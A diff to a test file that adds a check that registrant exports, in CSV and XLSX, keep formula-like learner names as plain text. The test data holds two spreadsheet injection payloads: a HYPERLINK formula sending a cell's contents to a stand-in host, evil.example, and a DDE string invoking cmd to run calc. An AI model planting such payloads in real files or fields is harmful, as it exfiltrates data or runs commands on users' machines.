@@ -102,6 +102,23 @@ def test_registrants_export_as_csv_and_xlsx_with_their_details(coordinator_a, se
     assert [cell.value for cell in sheet[2]][:2] == ["ريم العوفي", "مؤكد"]
 
 
+def test_a_name_that_is_a_formula_stays_text_in_both_registrant_files(coordinator_a, session):
+    evil = '=HYPERLINK("https://evil.example/?d="&C2,"اضغط")'
+    registration_create(learner=LearnerFactory(full_name=evil, mobile="+966551112244"), session=session)
+    registration_create(learner=LearnerFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0"), session=session)
+    client = client_for(coordinator_a)
+    url = f"/ar/opportunities/manage/sessions/{session.pk}/registrants/"
+    text = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode("utf-8-sig")
+    names = [row[0] for row in list(csv.reader(io.StringIO(text)))[1:]]
+    assert "'" + evil in names and all(name.startswith("'") for name in names)
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + evil in [cell.value for cell in cells]
+    # A mobile number is no formula: it stays as it was.
+    assert "0551112244" in [cell.value for cell in cells] or "+966551112244" in [cell.value for cell in cells]
+
+
 def test_attendance_and_completion_through_the_registrants_page(coordinator_a, past_session):
     came, absent = LearnerFactory.create_batch(2)
     came_registration = Registration.objects.create(learner=came, session=past_session, status="confirmed")
